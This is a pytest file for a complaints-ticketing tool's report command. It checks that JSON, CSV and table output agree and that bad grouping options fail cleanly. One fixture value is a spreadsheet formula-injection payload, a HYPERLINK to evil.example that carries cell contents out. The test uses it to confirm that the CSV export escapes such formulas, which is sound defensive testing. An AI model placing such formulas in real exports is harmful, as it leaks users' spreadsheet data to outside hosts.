"""`wallboard report complaints` through a real process: the same figures as the report's
function, as JSON, CSV (cells a spreadsheet takes literally) and a table for people."""

from __future__ import annotations

import csv
import io
import json
import os
import time
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from db import open_database
from tickets import users
from tickets.outcomes import outcome_report
from tickets.service import ComplaintService
from wallboard.config import Settings

LONDON = ZoneInfo("Europe/London")
HOSTILE_CATEGORY = '=HYPERLINK("http://evil.example/?"&A1,"refund")'


def at(day: int, hour: int) -> float:
    return datetime(2025, 3, day, hour, tzinfo=LONDON).timestamp()


@pytest.fixture
def week(wallboard, tmp_path):
    """Three complaints in the week of Monday 3 March 2025, long since judged."""
    (tmp_path / "config.toml").write_text('[site]\ntimezone = "Europe/London"\n')
    settings = Settings()
    settings.site.timezone = "Europe/London"
    engine = open_database(os.environ["WALLBOARD_DB"], migrate=True)
    users.add_user(engine, "ann", "agent")
    clock_now = [at(3, 9)]
    svc = ComplaintService(engine, settings, lambda: clock_now[0])
    fields = dict(customer="Mrs Jones", contact="0207", subject="Refund", description="Late.", severity="normal")
    first = svc.create("ann", category="refund", call_queue="billing", **fields).ref
    clock_now[0] = at(3, 10)
    svc.acknowledge(first, "ann")
    svc.start(first, "ann")
    clock_now[0] = at(4, 10)
    svc.resolve(first, "ann", resolution="Refunded", root_cause="process")
    clock_now[0] = at(5, 9)
    svc.create("ann", category=HOSTILE_CATEGORY, **fields)
    clock_now[0] = at(6, 9)
    svc.create("ann", channel="email", **fields)
    yield engine, settings
    engine.dispose()


def test_json_csv_and_table(wallboard, week):
    engine, settings = week
    window = ("--from", "2025-03-03", "--to", "2025-03-10")
    printed = json.loads(wallboard("report", "complaints", *window, "--by", "category", "--format", "json").stdout)
    expected = outcome_report(engine, settings, at(3, 0), at(10, 0), time.time(), "category").as_dict()
    assert {k: v for k, v in printed.items() if k != "as_of"} == {
        k: json.loads(json.dumps(v)) for k, v in expected.items() if k != "as_of"
    }
    assert [g["group"] for g in printed["groups"]] == [HOSTILE_CATEGORY, "refund", "(none)"]
    assert printed["total"]["received"] == 3 and printed["total"]["resolved_on_time"] == 1
    assert printed["root_cause_pareto"][0]["root_cause"] == "process"

    rows = list(
        csv.DictReader(
            io.StringIO(wallboard("report", "complaints", *window, "--by", "category", "--format", "csv").stdout)
        )
    )
    assert [r["group"] for r in rows] == ["'" + HOSTILE_CATEGORY, "refund", "(none)", "total"]
    assert rows[-1]["received"] == "3" and rows[1]["resolve_median_seconds"] == str(
        11 * 3600.0
    )  # Mon 09:00 to Tue 10:00

    table = wallboard("report", "complaints", *window).stdout
    assert "billing" in table and "received" in table and "Root causes (Pareto)" in table


def test_bad_grouping_is_one_line(wallboard):
    result = wallboard("report", "complaints", "--by", "mood", ok=False)
    assert result.returncode != 0 and "Invalid value for '--by'" in result.stderr
